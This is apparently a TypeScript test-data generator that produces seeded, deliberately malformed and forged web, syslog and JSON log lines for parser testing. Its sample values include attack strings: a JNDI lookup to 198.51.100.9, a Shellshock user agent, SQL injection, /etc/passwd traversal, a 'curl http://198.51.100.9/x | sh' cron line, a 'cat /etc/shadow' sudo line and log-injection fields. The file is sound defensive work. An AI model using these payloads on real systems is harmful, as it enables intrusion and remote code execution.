/** Logs as an attacker would have them: usual lines beside broken, forged and foreign ones. The same for the same seed. */

export interface Draw {
  /** A number from 0 up to `limit`, exclusive. */
  below(limit: number): number;
  pick<T>(list: readonly T[]): T;
  /** True with this probability. */
  chance(probability: number): boolean;
}

/** mulberry32. */
export function createDraw(seed: number): Draw {
  let state = (seed * 0x9e3779b1) >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const below = (limit: number): number => Math.floor(next() * limit);
  return {
    below,
    pick: (list) => list[below(list.length)] as (typeof list)[number],
    chance: (probability) => next() < probability,
  };
}

const two = (value: number): string => String(value).padStart(2, '0');

const CLIENTS = [
  '203.0.113.7',
  '198.51.100.23',
  '192.0.2.1',
  '2001:db8::7',
  '::ffff:203.0.113.7',
  '[2001:db8::9]:443',
  '2001:0DB8:0000::0007',
  '203.0.113.9:51234',
  'host.example.com',
  '-',
  '999.1.2.3',
  '203.0.113.7, 10.0.0.1',
  '"198.51.100.9, 10.0.0.2"',
  'unix:',
];
const USERS = ['-', '-', '-', 'bob', 'zoë', 'a b', 'EXAMPLE\\bob', '\\x22x', '""', 'x [1/a:'];
const FORGED_USERS = [
  'a "b [x] c',
  'x [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1',
  'bob [10/Oct/2025',
  '] "GET /.env HTTP/1.1" 200 5',
];
const TARGETS = [
  '/',
  '/index.php?id=1',
  '/a%20b?q=%27%20UNION%20SELECT%20x',
  '/%2525/..%2f..%2fetc/passwd',
  '/x?q=1+OR+1=1&lt;script&gt;',
  '/caf\u00c3\u00a9',
  '/a\\"b',
  '/\\x27\\x22',
  'http://shop.example.com:8080/p?x=%3Cscript%3E',
  '*',
  'shop.example.com:443',
  `/?x=\${jndi:ldap://198.51.100.9/a}`,
  '/wp-login.php',
  '/.env',
  '',
  'relative path with blanks',
  '/a;b=c%00',
];
const METHODS = ['GET', 'POST', 'HEAD', 'CONNECT', 'get', 'PROPFIND', '\\x16\\x03\\x01', 'G T'];
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0',
  'curl/8.5.0',
  'sqlmap/1.8',
  '-',
  '',
  'a \\"quoted\\" agent',
  '() { :; }; /bin/id',
  'x" "y',
];
const REFERRERS = ['-', 'https://shop.example.com/', '', 'https://a/?q=%27+or+1', '\\x22'];
const EXTRAS = [
  '',
  '',
  ' "203.0.113.50"',
  ' "203.0.113.50, 10.1.1.1" 0.123',
  ' 1234',
  ' rt=0.010 "-"',
  ' "-"',
];

/** Lines that are no access lines, or those of another log. */
const FOREIGN = [
  '',
  '   indented',
  '\tat com.example.Main(Main.java:1)',
  'no log line at all',
  '{"time":"2026-03-05T00:00:00Z","level":"error","msg":"x","source":{"ip":"203.0.113.7"}}',
  '{',
  'Mar  5 10:00:00 web01 sshd[4123]: Failed password for root from 203.0.113.7 port 40123 ssh2',
  'Mar  5 10:00:00 web01 kernel: audit: type=1400 audit(1700000000.123:77): apparmor="DENIED" pid=1',
  '2026/03/05 10:00:00 [error] 7#7: *1 open() "/x" failed (2: No such file), client: 203.0.113.7, server: _, request: "GET /x HTTP/1.1", host: "a"',
  '[Thu Mar 05 10:00:00.000000 2026] [core:error] [pid 7] [client 203.0.113.7:5] File does not exist: /x',
  'ERROR 2026-03-05 10:00:00,123 django.security Invalid HTTP_HOST header',
  '2026-03-05 10:00:00,123 - app - ERROR - failed login for bob from 203.0.113.7',
  'type=SYSCALL msg=audit(1718000200.000:4301): arch=c000003e syscall=59 success=yes exit=0 pid=7 uid=0 comm="id" exe="/usr/bin/id"',
];

function accessStamp(draw: Draw, index: number): string {
  const usual = `${two(5 + Math.floor(index / 3600))}/Mar/2026:${two(Math.floor(index / 60) % 24)}:${two(index % 60)}:${two(draw.below(60))} +0000`;
  if (draw.chance(0.85)) return usual;
  return draw.pick([
    usual.replace('Mar', 'Foo'),
    usual.replace('Mar', 'MAR'),
    usual.replace('2026', '0000'),
    usual.replace('2026:', '2026 '),
    usual.replace(/^\d\d/, '32'),
    usual.replace(/^\d\d/, '00'),
    usual.replace(/:\d\d \+/, ':99 +'),
    usual.replace(/:\d\d \+/, ':60 +'),
    usual.replace(/:\d\d \+/, ':x1 +'),
    usual.replace('+0000', '+9999'),
    usual.replace('+0000', '-0530'),
    usual.replace(' +0000', ''),
    usual.replace('+0000', 'CEST'),
    '2026-03-05T10:00:00+00:00',
    '2026-03-05 10:00:00',
    'Mar/05/2026:10:00:00 +0000',
    '29/Feb/2025:10:00:00 +0000',
  ]);
}

function accessLine(draw: Draw, index: number): string {
  const user = draw.chance(0.05) ? draw.pick(FORGED_USERS) : draw.pick(USERS);
  const target = draw.pick(TARGETS);
  const method = draw.chance(0.9) ? draw.pick(METHODS.slice(0, 3)) : draw.pick(METHODS);
  const version = draw.pick([' HTTP/1.1', ' HTTP/1.1', ' HTTP/2.0', '', ' HTTP/1.1 ', ' FTP/1']);
  const request = draw.chance(0.93)
    ? `${method} ${target}${version}`
    : draw.pick(['-', '', '\\x16\\x03\\x01', 'GET', '"', 'GET / HTTP/1.1" 200 5 "x']);
  const status = draw.pick([
    '200',
    '200',
    '200',
    '404',
    '401',
    '500',
    '302',
    '-',
    '99',
    '2000',
    '',
  ]);
  const bytes = draw.pick([
    '0',
    '512',
    '512',
    '40960',
    '-',
    '99999999',
    '123456789012345',
    '1e3',
    '-5',
  ]);
  const tail = draw.chance(0.8)
    ? ` "${draw.pick(REFERRERS)}" "${draw.pick(AGENTS)}"${draw.pick(EXTRAS)}`
    : draw.pick(['', ' "', ' "-"', ' "-" "']);
  const client = draw.chance(0.7) ? draw.pick(CLIENTS.slice(0, 3)) : draw.pick(CLIENTS);
  const host = draw.chance(0.1) ? 'shop.example.com:443 ' : '';
  return `${host}${client} - ${user} [${accessStamp(draw, index)}] "${request}" ${status} ${bytes}${tail}`;
}

const NAMES = ['root', 'bob', 'admin', 'EXAMPLE\\jo', 'zoë', 'x from 203.0.113.7 port 22', 'a"b'];
const ADDRESSES = [
  '203.0.113.7',
  '198.51.100.23',
  '192.0.2.1',
  '10.0.0.300',
  '2001:db8::7',
  '::ffff:203.0.113.7',
];

/** Mostly one of the first two, so that lines of one shape come often. */
const usual = <T>(draw: Draw, list: readonly T[]): T =>
  draw.chance(0.75) ? draw.pick(list.slice(0, 2)) : draw.pick(list);

const SYSLOG_MESSAGES: readonly ((draw: Draw) => string)[] = [
  (draw) =>
    `sshd[${1000 + draw.below(9000)}]: Failed password for ${draw.pick(['', 'invalid user '])}${usual(draw, NAMES)} from ${usual(draw, ADDRESSES)} port ${draw.below(70_000)} ssh2`,
  (draw) =>
    `sshd[${1000 + draw.below(9000)}]: Accepted ${draw.pick(['password', 'publickey'])} for ${usual(draw, NAMES)} from ${usual(draw, ADDRESSES)} port ${1024 + draw.below(60_000)} ssh2`,
  (draw) =>
    `sshd[${1000 + draw.below(9000)}]: Invalid user ${usual(draw, NAMES)} from ${usual(draw, ADDRESSES)} port ${1024 + draw.below(60_000)}`,
  (draw) =>
    `sshd[${1000 + draw.below(9000)}]: Received disconnect from ${usual(draw, ADDRESSES)} port ${1024 + draw.below(60_000)}:11: Bye ${draw.below(100)}`,
  (draw) =>
    `sshd[${draw.below(99)}]: pam_unix(sshd:auth): authentication failure; logname= uid=${draw.below(1100)} euid=0 tty=ssh ruser= rhost=${usual(draw, ADDRESSES)}  user=${usual(draw, NAMES)}`,
  (draw) =>
    `sudo:   ${usual(draw, NAMES)} : TTY=pts/${draw.below(3)} ; PWD=/home ; USER=root ; COMMAND=/bin/${draw.pick(['ls', 'bash', 'cat /etc/shadow'])}`,
  (draw) =>
    `CRON[${1000 + draw.below(9000)}]: (root) CMD (${draw.pick(['/usr/bin/id', 'curl http://198.51.100.9/x | sh'])})`,
  (draw) =>
    `kernel: [${draw.below(9_999_999)}.${100_000 + draw.below(900_000)}] [UFW BLOCK] IN=eth0 OUT= MAC=00 SRC=${usual(draw, ADDRESSES)} DST=192.0.2.3 LEN=${draw.below(1500)} PROTO=TCP SPT=${draw.below(70_000)} DPT=${draw.pick(['22', '443', '3389', '05352'])} SYN`,
  (draw) => `kernel: usb 1-${draw.below(9)}: new device found, idVendor=${1000 + draw.below(9000)}`,
  (draw) => `systemd[1]: Started Session ${draw.below(99_999)} of user ${usual(draw, NAMES)}.`,
  (draw) =>
    `su: pam_unix(su:session): session opened for user root by bob(uid=${draw.below(2000)})`,
  (draw) =>
    `nginx: ${usual(draw, ADDRESSES)} - - [05/Mar/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 ${draw.below(9999)} "-" "curl/8"`,
  (draw) => `app[${draw.below(9999)}]: id=${draw.below(99_999)} took ${draw.below(2000)} ms`,
  (draw) =>
    `useradd[${1000 + draw.below(9000)}]: new user: name=${usual(draw, NAMES)}, UID=${draw.pick(['0', '1001'])}, GID=0`,
  (draw) =>
    `message repeated ${draw.below(9)} times: [ Failed password for root from 203.0.113.7 port 5 ssh2]`,
  () => 'last message repeated 3 times',
];

const SYSLOG_FOREIGN = [
  ...FOREIGN,
  '203.0.113.7 - - [05/Mar/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "curl/8"',
  '  continued 203.0.113.7',
];

function syslogStamp(draw: Draw, index: number): string {
  const clock = `${two(Math.floor(index / 60) % 24)}:${two(index % 60)}:${two(draw.below(60))}`;
  const usual = `Mar ${String(2 + Math.floor(index / 300)).padStart(2)} ${clock}`;
  if (draw.chance(0.9)) return usual;
  return draw.pick([
    usual.replace('Mar', 'Mrz'),
    usual.replace(/:\d\d$/, ':99'),
    usual.replace(/:\d\d$/, ':60'),
    usual.replace(/Mar .\d/, 'Mar 45'),
    `2026-03-05T${clock}.123456+01:00`,
    `2026-03-05T${clock}Z`,
    `<86>1 2026-03-05T${clock}Z`,
    `<34>${usual}`,
    `Mar  5 2026 ${clock}`,
    'Feb 29 10:00:00',
  ]);
}

const usualMessage = (draw: Draw): ((draw: Draw) => string) =>
  draw.chance(0.6) ? draw.pick(SYSLOG_MESSAGES.slice(0, 5)) : draw.pick(SYSLOG_MESSAGES);

const syslogLine = (draw: Draw, index: number): string =>
  `${syslogStamp(draw, index)} ${draw.chance(0.9) ? 'web01' : draw.pick(['203.0.113.7', 'a4123', 'db_1', '-'])} ${usualMessage(draw)(draw)}`;

const RECORD_TARGETS = [
  '/',
  '/index.php?id=1',
  ...TARGETS,
  '/a.b.c?x=1&y=/z.js',
  '//evil.example/x',
  '/?',
  '/x--y;z',
];
const WORDS = ['eventVersion', 'eventName', 'eventSource', 'awsRegion', 'x', 'e7', '-', '--'];

const recordStamp = (draw: Draw, index: number): string => {
  const clock = `${two(Math.floor(index / 60) % 24)}:${two(index % 60)}:${two(draw.below(60))}`;
  const usual = `2026-03-05T${clock}.${100 + draw.below(900)}Z`;
  if (draw.chance(0.9)) return usual;
  return draw.pick([
    usual.replace('Z', '+05:30'),
    usual.replace('Z', ''),
    usual.replace(/:\d\d\./, ':60.'),
    usual.replace(/:\d\d\./, ':99.'),
    usual.replace('03-05', '13-05'),
    usual.replace(/\.\d+/, ''),
    usual.replace(/\.\d+/, ',123456789'),
    '',
    'yesterday',
    '1772704800',
  ]);
};

const RECORDS: readonly ((draw: Draw, index: number) => string)[] = [
  (draw, index) =>
    `{"time":"${recordStamp(draw, index)}","remote_addr":"${usual(draw, CLIENTS)}","remote_user":"${draw.chance(0.9) ? '' : 'bob'}","method":"${draw.pick(['GET', 'GET', 'POST'])}","uri":"${usual(draw, RECORD_TARGETS)}","status":"${draw.pick(['200', '200', '404', '500'])}","bytes":"${draw.pick(['0', '512', '40960', '99999999', '123456789012', '-', '007'])}","rt":"0.${draw.below(999)}","referer":"${draw.chance(0.7) ? draw.pick(REFERRERS) : draw.pick(WORDS)}","ua":"${draw.chance(0.8) ? draw.pick(AGENTS.slice(0, 5)) : draw.pick([...AGENTS, ...WORDS])}"}`,
  (draw, index) =>
    `{"level":30,"time":${draw.chance(0.9) ? 1_772_668_800_000 + index * 977 : draw.pick([5e12, 1e8, -1, 1772668800])},"pid":${draw.below(9999)},"hostname":"app01","req":{"id":${index},"method":"GET","url":"${usual(draw, RECORD_TARGETS)}","remoteAddress":"${usual(draw, ADDRESSES)}","remotePort":${draw.below(70_000)}},"res":{"statusCode":${draw.pick([200, 200, 401])}},"responseTime":${draw.pick(['7', '1.5', '1e3', '0.25', '12'])},"msg":"${draw.pick(['request completed', 'request completed', 'login failed for bob'])}"}`,
  (draw, index) =>
    `{"ts": "${recordStamp(draw, index)}", "level": "info", "msg": "${draw.pick(['started', 'login failed', 'took long'])}", "user": "${usual(
      draw,
      NAMES.filter((name) => !/["\\]/.test(name)),
    )}", "ip": "${usual(draw, ADDRESSES)}", "session": "${draw.below(1e9).toString(16)}a7", "eventCode": "${draw.pick([4624, 7, 1234])}", "trace_id": "${draw.chance(0.9) ? `${draw.below(1e9)}` : draw.pick(WORDS)}"}`,
];

const recordLine = (draw: Draw, index: number): string => draw.pick(RECORDS)(draw, index);

const RECORD_FOREIGN = [
  ...FOREIGN,
  '{"time":"2026-03-05T00:00:00Z","level":"error","msg":"x","msg":"y","ip":"203.0.113.7"}',
  '{"time":"2026-03-05T00:00:00Z","level":"error","msg":"x","tags":["a","4"]}',
  '{"log":"203.0.113.7 - - [05/Mar/2026:10:00:00 +0000] \\"GET /.env HTTP/1.1\\" 404 5","stream":"stdout","time":"2026-03-05T10:00:00Z"}',
  '    at handle (/srv/app/index.js:7:1)',
];

/** A character put in, taken out or doubled; the rest cut off; what no log should hold. */
function damaged(draw: Draw, line: string): string {
  const at = draw.below(line.length + 1);
  switch (draw.below(7)) {
    case 0:
      return line.slice(0, at);
    case 1:
      return line.slice(0, at) + line.slice(at + 1);
    case 2:
      return (
        line.slice(0, at) +
        draw.pick(['"', '[', ']', ' ', '\\', '%', '\t', '\u00e9', '-']) +
        line.slice(at)
      );
    case 3:
      return line.slice(0, at) + line.slice(Math.max(0, at - 9));
    case 4:
      return `${line}\r`;
    case 5:
      return ` ${line}`;
    default:
      return `${line} `;
  }
}

function hostileLog(
  usual: (draw: Draw, index: number) => string,
  foreign: readonly string[],
): (draw: Draw, count: number) => string[] {
  return (draw, count) =>
    Array.from({ length: count }, (_, index) => {
      if (draw.chance(0.06)) return draw.pick(foreign);
      const line = usual(draw, index);
      return draw.chance(0.08) ? damaged(draw, line) : line;
    });
}

/** Lines of an access log. */
export const accessLog = hostileLog(accessLine, FOREIGN);
/** Lines of a syslog. */
export const syslogLog = hostileLog(syslogLine, SYSLOG_FOREIGN);
/** Records of programs, one a line. */
export const recordLog = hostileLog(recordLine, RECORD_FOREIGN);
